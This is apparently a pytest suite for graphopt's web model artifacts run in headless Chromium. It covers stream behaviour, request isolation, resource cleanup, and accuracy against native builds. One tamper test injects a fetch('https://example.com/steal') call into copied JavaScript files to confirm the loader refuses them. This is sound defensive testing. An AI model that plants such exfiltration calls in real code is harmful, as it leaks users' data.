"""The web targets (issue 19): onnx-web (onnxruntime-web) and litert-web (LiteRT.js) artifacts, built,
verified and run in a real headless Chromium.

- FacePhys and PhysNet built for both web targets and their native twins (onnx, tflite), each verified over
  the synthetic clip: the web artifact reaches the tier its twin reaches. These eight builds take about
  4-5 minutes on 2 cores (FacePhys ~20-30 s a build, PhysNet ~40-55 s; the browser steps ~20 ms a frame).
- The Stream contract on the tiny model (builds in seconds): the Python Stream and the JavaScript Stream in
  the page (reset, state, dt default and clamp, bad frames, refused steps), the folder served by a plain
  static server with no request leaving 127.0.0.1, only graphopt's own files run, pages released.

They skip (saying why) only where Chromium or the npm packages are missing; `make venv` installs both.
"""
from __future__ import annotations

import gc
import json
import re
import shutil
import subprocess
import sys
import time

import numpy as np
import pytest

import graphopt
from graphopt import artifact as art
from graphopt import metrics
from graphopt.stream import FrameError, StepError
from graphopt.targets import module_for, web, web_browser

from conftest import TINY_FRAME, build_tiny

WEB = {"onnx-web": "onnx", "litert-web": "tflite"}  # web target -> its native twin

_ready = [module_for(t).available() for t in WEB]
pytestmark = pytest.mark.skipif(not all(ok for ok, _ in _ready),
                                reason="web targets unavailable: " + "; ".join(r for ok, r in _ready if not ok))


def _frames(n, seed=0):
    rng = np.random.default_rng(seed)
    return (0.5 + 0.1 * rng.standard_normal((n,) + TINY_FRAME)).astype(np.float32)


@pytest.fixture(scope="module")
def tiny(tmp_path_factory):
    """The tiny model for both web targets and their twins (tflite in io mode, as litert-web emits it)."""
    out = tmp_path_factory.mktemp("tiny-web")
    made = {t: build_tiny(t, out / t) for t in WEB}
    made["onnx"] = build_tiny("onnx", out / "onnx")
    made["tflite"] = build_tiny("tflite", out / "tflite", state_mode="io")
    return made


@pytest.mark.parametrize("target", list(WEB))
def test_the_folder_holds_what_a_page_needs(tiny, target):
    a = tiny[target]
    folder = a.path.parent
    m = a.manifest
    assert m["target"] == target and m["web"]["runtime"]["version"] != "?"
    for rel in list(m["web"]["files"]) + [m["web"]["state_file"], m["file"], m["initial_state"]["file"]]:
        assert (folder / rel).is_file(), rel
    assert m["web"]["runtime"]["module"] in m["web"]["files"]
    # the state as raw little-endian arrays, laid out as the manifest says, equal to the npz's
    raw = (folder / m["web"]["state_file"]).read_bytes()
    npz = art.read_npz(folder / m["initial_state"]["file"])
    for s in m["web"]["state"]:
        got = np.frombuffer(raw[s["offset"]:s["offset"] + s["bytes"]], np.dtype(s["dtype"]).newbyteorder("<"))
        np.testing.assert_array_equal(got.reshape(s["shape"]), npz[s["name"]])
    # the module knows its manifest; nothing in the folder names a CDN
    assert f'const MANIFEST = "{art.manifest_path_for(a.path).name}";' in (folder / "graphopt-stream.js").read_text()
    for rel in m["web"]["files"]:
        if rel.endswith((".js", ".mjs", ".html")):
            assert not re.search(r"https?://(cdn|unpkg|esm\.sh|cdnjs)", (folder / rel).read_text(errors="replace")), rel


@pytest.mark.parametrize("target", list(WEB))
def test_the_browser_stream_steps_like_its_native_twin(tiny, target):
    web_s, native = graphopt.load(tiny[target].path), graphopt.load(tiny[WEB[target]].path)
    assert type(web_s).__name__ == "WebStream" and web_s.backend == "wasm" and web_s.threads == 1
    frames = _frames(12)
    got = np.array([np.asarray(web_s.step(f)).ravel() for f in frames])
    want = np.array([np.asarray(native.step(f)).ravel() for f in frames])
    np.testing.assert_allclose(got, want, rtol=1e-5, atol=1e-6)
    for a, b in zip(web_s.state, native.state):
        np.testing.assert_allclose(a, b, rtol=1e-5, atol=1e-6)
    # many steps in one call into the page give what steps one by one give
    web_s.reset()
    np.testing.assert_allclose(web_s.run(frames), got.ravel(), rtol=1e-6, atol=1e-7)
    assert web_s.stats["steps"] == 24


@pytest.mark.parametrize("target", list(WEB))
def test_python_stream_contract_reset_dt_and_bad_frames(tiny, target):
    stream, twin = graphopt.load(tiny[target].path), graphopt.load(tiny[target].path)
    initial = art.read_npz(tiny[target].path.parent / tiny[target].manifest["initial_state"]["file"])
    names = [s["input"] for s in tiny[target].manifest["state"]]
    for a, n in zip(stream.native_state, names):
        np.testing.assert_array_equal(a, initial[n])
    f = _frames(1)[0]
    # dt: the default is 1/fps; a stall is stepped as max_dt and counted
    y0 = stream.step(f)
    np.testing.assert_array_equal(y0, twin.step(f, 1 / 30))
    stream.reset()
    twin.reset()
    y = stream.step(f, dt=3.0)
    assert np.isfinite(y).all() and stream.stats["dt_clamped"] == 1
    np.testing.assert_allclose(y, twin.step(f, dt=stream.max_dt), rtol=1e-6)
    assert not all(np.array_equal(a, initial[n]) for a, n in zip(stream.native_state, names))
    stream.reset()
    for a, n in zip(stream.native_state, names):
        np.testing.assert_array_equal(a, initial[n])
    stream.step(f)
    before = stream.native_state
    with pytest.raises(FrameError, match=r"shape \(1, 1, 8, 8, 4\)"):
        stream.step(np.zeros((1, 1, 8, 8, 4), np.float32))
    bad = f.copy()
    bad[0, 0, 0, 0, 0] = np.nan
    with pytest.raises(FrameError, match="1 NaN/Inf"):
        stream.step(bad)
    with pytest.raises(StepError, match="NaN/Inf.*kept"):  # finite but absurd: the state would be NaN
        stream.step(np.full(TINY_FRAME, 1e30, np.float32))
    assert stream.stats["refused"] == 1
    for a, b in zip(before, stream.native_state):
        np.testing.assert_array_equal(a, b)


JS_CONTRACT = """async () => {
  const mod = await import(new URL('graphopt-stream.js', location.href).href);
  const s = await mod.Stream.load(undefined, {threads: 1});
  const n = s.frameSize, out = {frameSize: n, fps: s.fps, maxDt: s.maxDt, backend: s.backend};
  const frame = new Float32Array(n).fill(0.6);
  const now = () => JSON.stringify(s.state.map((t) => Array.from(t.data)));
  const err = async (fn) => { try { await fn(); return null; } catch (e) { return [e.name, e.message]; } };
  out.initial = now();
  out.layout = s.state.map((t) => [t.name, t.shape, t.dtype]);
  out.wrongSize = await err(() => s.step(new Float32Array(n + 1)));
  const nan = frame.slice(); nan[3] = NaN;
  out.nan = await err(() => s.step(nan));
  out.uint8 = await err(() => s.step(new Uint8Array(n)));
  out.int32 = await err(() => s.step(new Int32Array(n)));
  out.badDt = await err(() => s.step(frame, -1));
  out.stringDt = await err(() => s.step(frame, 'x'));
  out.unknown = await err(() => s.step({frame, colour: 1}));
  out.unchangedAfterBad = now() === out.initial && s.stats.steps === 0;
  const a = Array.from(await s.step(frame));
  out.afterStep = now();
  await s.reset();
  out.afterReset = now();
  const b = Array.from(await s.step(frame, 1 / 30));
  out.defaultDt = [a, b];
  await s.reset();
  const c = Array.from(await s.step(frame, 3.0));
  await s.reset();
  const d = Array.from(await s.step(frame, s.maxDt));
  out.clamp = [c, d, s.stats.dt_clamped];
  const before = now();
  out.absurd = await err(() => s.step(new Float32Array(n).fill(1e30)));
  out.keptAfterRefusal = now() === before;
  out.refused = s.stats.refused;
  await s.reset();
  const together = await Promise.all([s.step(frame), s.step(frame, 0.05), s.step(frame)]);
  await s.reset();
  const one = [];
  for (const dt of [undefined, 0.05, undefined]) one.push(await s.step(frame, dt));
  out.serial = [together.map((x) => Array.from(x)), one.map((x) => Array.from(x))];
  await s.reset();
  out.named = Array.from(await s.step({frame, dt: 0.05}));
  await s.reset();
  out.positional = Array.from(await s.step(frame, 0.05));
  s.close();
  return out;
}"""


@pytest.mark.parametrize("target", list(WEB))
def test_javascript_stream_contract_in_the_page(tiny, target):
    """graphopt-stream.js itself, as a page uses it: state and reset, dt default 1/fps and the clamp, bad
    frames and dt refused with FrameError (state unchanged), a NaN step refused with StepError (state
    kept), steps called together run one after another."""
    stream = graphopt.load(tiny[target].path)
    r = stream.page.evaluate(JS_CONTRACT)
    assert r["frameSize"] == 8 * 8 * 3 and r["fps"] == 30 and r["maxDt"] == pytest.approx(4 / 30)
    assert r["layout"] == [[s["input"], s["shape"], s["dtype"]] for s in tiny[target].manifest["state"]]
    assert r["wrongSize"] == ["FrameError", "frame has 193 values, but this model takes shape (1, 1, 8, 8, 3) "
                              "(192 float32 values in 0..1); pass one frame of shape (8, 8, 3), flattened"]
    assert r["nan"][0] == "FrameError" and "1 NaN/Inf" in r["nan"][1]
    assert r["uint8"][0] == "FrameError" and "uint8" in r["uint8"][1] and "/ 255" in r["uint8"][1]
    assert r["int32"][0] == "FrameError" and "Int32Array" in r["int32"][1]
    assert r["badDt"] == ["FrameError", "dt must be a positive number of seconds per frame, got -1"]
    assert r["stringDt"][0] == "FrameError"
    assert r["unknown"][0] == "FrameError" and "colour" in r["unknown"][1]
    assert r["unchangedAfterBad"]
    assert r["afterStep"] != r["initial"] and r["afterReset"] == r["initial"]
    assert r["defaultDt"][0] == r["defaultDt"][1]
    assert r["clamp"][0] == r["clamp"][1] and r["clamp"][2] == 1
    assert r["absurd"][0] == "StepError" and "kept" in r["absurd"][1]
    assert r["keptAfterRefusal"] and r["refused"] == 1
    assert r["serial"][0] == r["serial"][1]
    assert r["named"] == r["positional"]


def test_the_folder_works_from_a_plain_static_server(tiny, tmp_path):
    """`python -m http.server` in the folder (no COOP/COEP headers: one thread): index.html loads the model,
    steps it and shows the output; every request goes to that server, none elsewhere."""
    for target in WEB:
        folder = tiny[target].path.parent
        server = subprocess.Popen([sys.executable, "-u", "-m", "http.server", "0", "--bind", "127.0.0.1"], cwd=folder,
                                  stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True)
        try:
            port = int(re.search(r"port (\d+)", server.stdout.readline()).group(1))
            page = web_browser.Page(web_browser.shared_browser(), f"http://127.0.0.1:{port}/index.html")
            check = page.evaluate("""async () => {
              for (let i = 0; i < 600 && !window.graphoptCheck; i++) await new Promise((r) => setTimeout(r, 100));
              return window.graphoptCheck || null; }""")
            assert check and check["ok"], (check, page.console)
            assert check["threads"] == 1 and check["isolated"] is False and np.isfinite(check["output"]).all()
            text = page.evaluate("() => document.getElementById('check').textContent")
            assert text.startswith("ok: wasm, 1 thread(s)")
            assert page.blocked == [] and page.requests
            assert all(u.startswith(f"http://127.0.0.1:{port}/") for u in page.requests)
            asked = {u.split(f":{port}/", 1)[1] for u in page.requests}
            manifest = tiny[target].manifest
            assert {manifest["file"], manifest["web"]["state_file"], manifest["web"]["runtime"]["module"]} <= asked
            page.close()
        finally:
            server.terminate()
            server.wait(10)


def test_no_request_leaves_localhost(tiny):
    """A page of a web Stream reaches its own server only: a request to a CDN is aborted and recorded."""
    stream = graphopt.load(tiny["onnx-web"].path)
    got = stream.page.evaluate("""async () => {
      try { await fetch('https://cdn.jsdelivr.net/npm/onnxruntime-web/dist/ort.min.mjs'); return 'fetched'; }
      catch (e) { return 'failed'; } }""")
    assert got == "failed"
    assert stream.page.blocked == ["https://cdn.jsdelivr.net/npm/onnxruntime-web/dist/ort.min.mjs"]
    local = [u for u in stream.page.requests if u not in stream.page.blocked]
    assert local and all(u.startswith(stream._server.url) for u in local)


@pytest.mark.parametrize("change", ["graphopt-stream.js", "runtime", "state", "manifest"])
def test_only_graphopts_own_files_run_in_the_browser(tiny, tmp_path, change):
    """Loading a web artifact runs its JS and WASM in Chromium: a folder whose files differ from the ones this
    graphopt writes is refused before a page opens (never executing code that came with an artifact)."""
    folder = tmp_path / "copy"
    shutil.copytree(tiny["onnx-web"].path.parent, folder)
    m = tiny["onnx-web"].manifest
    if change == "graphopt-stream.js":
        path = folder / "graphopt-stream.js"
        path.write_text(path.read_text() + "\nfetch('https://example.com/steal');\n")
        expect = "graphopt-stream.js is not the file this graphopt writes"
    elif change == "runtime":
        path = folder / m["web"]["runtime"]["module"]
        path.write_bytes(path.read_bytes() + b"\n//")
        expect = "is not the file this graphopt writes"
    elif change == "manifest":  # the manifest points the page at a script that came with the folder
        (folder / "evil.js").write_text("fetch('https://example.com/steal');\n")
        path = art.manifest_path_for(folder / m["file"])
        doc = json.loads(path.read_text())
        doc["web"]["runtime"]["module"] = "evil.js"
        path.write_text(json.dumps(doc))
        expect = "web.runtime.module 'evil.js', not 'runtime/ort.wasm.min.mjs'"
    else:
        path = folder / m["web"]["state_file"]
        data = bytearray(path.read_bytes())
        data[0] ^= 1
        path.write_bytes(bytes(data))
        expect = "does not match the sha256"
    with pytest.raises(art.ArtifactError, match=expect):
        graphopt.load(folder)


def test_a_closed_or_collected_stream_releases_its_page(tiny):
    stream = graphopt.load(tiny["litert-web"].path)
    page, server = stream.page, stream._server
    stream.close()
    with pytest.raises(FrameError, match="closed"):
        stream.step(_frames(1)[0])
    assert not page._finalizer.alive and not server._finalizer.alive
    other = graphopt.load(tiny["litert-web"].path)
    page = other.page
    del other
    gc.collect()
    assert not page._finalizer.alive


def test_the_browser_goes_with_the_last_stream(tiny):
    """Streams share one Chromium; when the last is collected, Chromium and its thread stop (a fresh
    interpreter, so no other test's Stream holds the browser)."""
    code = f"""
import gc, threading, time, psutil, graphopt
a = graphopt.load({str(tiny['onnx-web'].path)!r})
b = graphopt.load({str(tiny['litert-web'].path)!r})
assert a._browser is b._browser
def chromium():
    return sum('chrom' in p.name() for p in psutil.Process().children(recursive=True))
before = chromium()
del a, b
gc.collect()
for _ in range(100):
    if not any(t.name == 'graphopt-chromium' for t in threading.enumerate()) and not chromium():
        break
    time.sleep(0.1)
print('thread', any(t.name == 'graphopt-chromium' for t in threading.enumerate()), 'chromium', before, chromium())
"""
    r = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=300)
    assert r.returncode == 0, r.stderr[-2000:]
    line = r.stdout.strip().splitlines()[-1]
    thread, before, after = re.fullmatch(r"thread (\w+) chromium (\d+) (\d+)", line).groups()
    assert thread == "False" and int(before) > 0 and int(after) == 0, line


def test_bench_rows_are_measured_in_the_page(tiny):
    stream = graphopt.load(tiny["onnx-web"].path)
    rows = module_for("onnx-web").bench_in_page(stream, list(_frames(4)), rounds=2, steps_per_round=5, warmup=2)
    assert rows and rows[0][0].startswith("1 thread")
    for label, lat, medians in rows:
        assert lat.shape == (10,) and (lat > 0).all() and len(medians) == 2
    assert module_for("onnx-web").bench_in_page(object(), [], rounds=1, steps_per_round=1, warmup=0) is None


# ---- FacePhys and PhysNet: each web artifact reaches its native twin's tier --------------------------------

FRAMES = {"facephys": 300, "physnet": 384}  # the same clip for the web artifact and its twin


@pytest.fixture(scope="module")
def built(tmp_path_factory):
    """Builds (verified, as `graphopt build` does), made on first use and kept for the module."""
    from graphopt.builder import build
    out, done = tmp_path_factory.mktemp("web-models"), {}

    def get(model: str, target: str):
        if (model, target) not in done:
            t0 = time.perf_counter()
            done[model, target] = build(model, target, out / f"{model}-{target}", frames=FRAMES[model],
                                        log=lambda m: None)
            done[model, target].manifest["_seconds"] = time.perf_counter() - t0
        return done[model, target]
    return get


@pytest.mark.slow
@pytest.mark.parametrize("model", ["facephys", "physnet"])
@pytest.mark.parametrize("target", list(WEB))
def test_web_artifact_reaches_its_native_twins_tier(built, model, target):
    w, n = built(model, target), built(model, WEB[target])
    ew, en = w.manifest["equivalence"], n.manifest["equivalence"]
    assert ew["verified"] and ew["verified_with"] == "WebStream" and ew["clip"]["frames"] == FRAMES[model]
    assert en["tier"] is not None and metrics.meets(en["tier"], ew["tier"]), (ew["tier"], en["tier"])
    assert ew["pearson"] > 0.999 and ew["hr_bpm"] == pytest.approx(en["hr_bpm"])
    if target == "onnx-web":  # the same emit: the same model file as the twin's
        assert w.manifest["sha256"] == n.manifest["sha256"]


@pytest.mark.slow
def test_graphopt_verify_runs_a_web_artifact_in_chromium(built, capsys):
    from graphopt import cli
    a = built("facephys", "litert-web")
    assert cli.main(["verify", str(a.path.parent), "--frames", "120"]) == 0
    out, err = capsys.readouterr()
    assert "(litert-web, float32)" in err and re.search(r"tier reached\s+signal", out + err), (out + err)[-2000:]


@pytest.mark.slow
def test_a_chunk_model_takes_no_dt_in_the_page(built):
    stream = graphopt.load(built("physnet", "onnx-web").path)
    r = stream.page.evaluate("""async () => {
      const s = window.__graphopt.stream, chunk = new Float32Array(s.frameSize).fill(0.5);
      let dt = null;
      try { await s.step(chunk, 0.1); } catch (e) { dt = [e.name, e.message]; }
      const y = await s.step(chunk);
      return {dt, kind: s.kind, n: y.length, finite: y.every(Number.isFinite)}; }""")
    assert r["dt"] == ["FrameError", "this model takes no dt (it is a chunk model); call step(frame) alone"]
    assert r["kind"] == "chunk" and r["n"] == 128 and r["finite"]


@pytest.mark.slow
def test_the_demo_page_shows_the_heart_rate_of_the_camera(built, tmp_path):
    """demo.html with Chromium's fake camera playing the synthetic clip (72 bpm, the face off centre in a wider
    frame): the page finds and crops the face, steps FacePhys and shows 72 bpm; its screenshot is taken."""
    a = built("facephys", "onnx-web")
    shot = tmp_path / "demo.png"
    r = web.demo_screenshot(a.path.parent, shot, seconds=4)
    assert r.get("error") is None and r["blocked"] == [], r
    assert r["steps"] > 100 and abs(r["hr"] - 72) <= 3, r
    assert re.fullmatch(r"\d+ bpm", r["shown"]) and abs(int(r["shown"].split()[0]) - r["hr"]) <= 0.5, r
    x, y, side = r["box"]  # the face: 144 px at (96, 24) in a 256x192 frame
    assert 60 <= x <= 110 and 0 <= y <= 40 and 130 <= side <= 192, r["box"]
    assert shot.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"


def test_webgpu_is_an_option_never_a_requirement(tmp_path):
    """--webgpu copies onnxruntime-web's WebGPU build too; Stream.load(url, {webgpu: true}) uses it where the
    browser has a GPU adapter and runs on WASM where it has none (headless Chromium here: --disable-gpu)."""
    a = build_tiny("onnx-web", tmp_path / "gpu", webgpu=True)
    assert a.manifest["web"]["webgpu"] == {"module": "runtime/ort.webgpu.min.mjs"}
    assert (a.path.parent / "runtime/ort-wasm-simd-threaded.asyncify.wasm").is_file()
    stream = graphopt.load(a.path, webgpu=True)
    has_gpu = stream.page.evaluate("async () => !!(navigator.gpu && await navigator.gpu.requestAdapter())")
    assert stream.backend == ("webgpu" if has_gpu else "wasm")
    twin = graphopt.load(a.path)
    f = _frames(1)[0]
    np.testing.assert_allclose(stream.step(f), twin.step(f), rtol=1e-5)
